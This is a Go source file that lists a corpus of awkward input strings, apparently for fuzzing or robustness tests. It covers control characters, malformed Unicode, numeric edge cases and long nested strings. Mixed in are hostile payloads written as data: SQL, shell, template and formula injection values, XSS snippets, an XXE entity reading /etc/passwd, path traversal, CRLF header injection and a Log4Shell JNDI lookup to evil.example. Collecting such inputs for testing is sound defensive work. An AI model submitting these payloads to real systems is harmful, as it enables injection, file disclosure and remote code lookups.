package main

import "strings"

// nasty are texts that programs have stumbled over.
var nasty = append([]string{
	"", " ", "\t\n\v\f\r", "\x00", "a\x00b", "a\\u0000b", "\u0001\u0002\u0003\u007f\u0080\u009f", "\ufeffmark", "\ufffd", "\uffff\ufffe", "\xff\xfe", "\xc3\x28", "\xed\xa0\x80",
	"undefined", "null", "NULL", "(null)", "nil", "NaN", "Infinity", "-1", "0", "1e309", "0x7fffffff", "9223372036854775808", "99999999999999999999", "1/0", "1,000.00", "true",
	"'", "\"", "`", "\\", "\\\\", "';--", "1' or '1'='1", "1; drop table people; --", "' union select password_hash from people --", "$1", "$$", "@id", "@viewer", ":id", "%s%s%s%n", "%d", "%00", "%", "_", "\\%", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "$(id)", "`id`", "| id", "; id", "&& id", "() { :;}; id", "${jndi:ldap://evil.example/a}",
	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "]]>", "<!--", "-->", "<![CDATA[", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "&lt;&amp;&#0;&#x110000;", "[a](person:not-an-id)", "[a](person:00000000-0000-0000-0000-000000000000)", "![](http://evil.example/x.png)", "```", "|-|\n|-|", "- [ ] \n  - [x]",
	"../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "file:///etc/passwd", "con", "COM1", ".htaccess", "a/b", "a;b", "a?b#c", "%2e%2e%2f", "//evil.example", "https://evil.example/?next=/", "\r\nSet-Cookie: a=b", "a\r\nBcc: all@a.example", "a\nlevel=ERROR msg=forged",
	"Ω≈ç√∫˜µ≤≥÷", "ЁЂЃЄЅІЇЈЉЊ", "٠١٢٣٤٥٦٧٨٩", "田中さんにあげて下さい", "表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀", "ﷺ", "ß", "ı İ i I", "K (kelvin)", "ﬁ ﬂ", "e\u0301", "\u202etest\u202c", "\u2066a\u2069", "\u200b\u200c\u200d", "\u2028\u2029", "\u00ad", "a\u00a0b", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪🇩", "0️⃣ 1️⃣", "👨🏿‍🚀", "\U0010ffff", "\U000e0001\U000e0020", "𝕋𝕙𝕖", "ｆｕｌｌ", "ʇɹoʇɔǝʌ", "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "Power لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗", "గ్జ్ఞా",
	"=1+1", "+1+1", "@SUM(1)", "-2+3", "=cmd|' /C calc'!A0", "a@b", "a@a.example,b@a.example", "\"a b\"@a.example", "A@A.EXAMPLE", "ann@xn--80ak6aa92e.com", "ada@a.example\u0000@evil.example",
	"00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "{00000000-0000-0000-0000-000000000000}", "urn:uuid:00000000-0000-0000-0000-000000000000", "00000000000000000000000000000000", "zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz", "0000-00-00T00:00:00Z", "2026-02-30", "9999999-01-01T00:00:00Z", "Europe/../Berlin", "Local",
	"AKIA" + "IOSFODNN7EXAMPLE", "DE89370400440532013000", "4111 1111 1111 1111", "THIS IS ALL VERY LOUD INDEED, IS IT NOT",
}, large...)

// large are texts that are long, deep, or slow to read.
var large = []string{
	strings.Repeat("a", 300), strings.Repeat("a", 5000), strings.Repeat("é", 12_000), strings.Repeat("😀", 400), strings.Repeat("a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309", 40),
	strings.Repeat("[", 5000), strings.Repeat("*a_ ", 2000), strings.Repeat("> ", 3000), strings.Repeat("(", 3000), strings.Repeat("|a", 2500) + "\n" + strings.Repeat("|-", 2500), strings.Repeat("- ", 1000) + "a",
	strings.Repeat("![a](", 1500), strings.Repeat("<", 5000), strings.Repeat("`", 5001), strings.Repeat("\n", 5000) + "a", strings.Repeat("&#", 2500), strings.Repeat("@", 3000), strings.Repeat("http://a.example/ ", 300),
}
